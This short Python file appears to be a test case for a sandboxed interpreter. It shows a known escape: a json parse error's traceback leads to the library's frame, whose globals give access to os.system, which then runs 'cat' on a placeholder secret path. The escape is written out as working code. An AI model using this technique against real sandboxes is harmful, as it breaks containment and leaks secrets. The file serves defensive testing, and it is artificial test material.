# An exception raised in a library leads to the library's frame.
# effect: run
import json
try:
    json.loads("{")
except ValueError as error:
    trace = error.__traceback__.tb_next
    trace.tb_frame.f_globals["codecs"].builtins.__import__("os").system("cat @SECRET@")
